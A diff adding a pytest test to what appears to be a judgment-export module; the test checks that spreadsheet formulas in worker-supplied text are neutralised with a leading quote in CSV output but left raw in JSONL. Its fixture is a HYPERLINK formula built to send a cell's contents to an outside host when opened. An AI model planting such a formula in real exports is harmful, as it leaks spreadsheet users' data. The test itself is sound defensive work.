@@ -180,3 +180,18 @@ def test_the_winner_is_empty_for_a_protocol_that_compares_no_models(tmp_path):
     assert judgments_export_frame(campaign)["winner"].isna().all()
     judgments_export(campaign, tmp_path / "l.csv", "csv", chunk_rows=3)
     assert pd.read_csv(tmp_path / "l.csv")["winner"].isna().all()
+
+
+@pytest.mark.django_db
+def test_a_formula_in_a_workers_words_is_text_in_the_csv_and_raw_in_jsonl(tmp_path):
+    formula = '=HYPERLINK("http://example.org/?"&A2, "more")'
+    campaign = _campaign_with([formula, "-1 reason", 3])
+    csv_path = tmp_path / "judgments.csv"
+    judgments_export(campaign, csv_path, "csv", chunk_rows=2)
+    values = pd.read_csv(csv_path, dtype=str)["value"].tolist()
+    assert f"'{formula}" in values and "'-1 reason" in values and "3" in values
+    jsonl_path = tmp_path / "judgments.jsonl"
+    judgments_export(campaign, jsonl_path, "jsonl")
+    assert formula in pd.read_json(jsonl_path, lines=True)["value"].tolist()
+    in_memory = frame_write(judgments_export_frame(campaign), tmp_path / "memory", "csv")
+    assert in_memory.read_bytes() == csv_path.read_bytes()
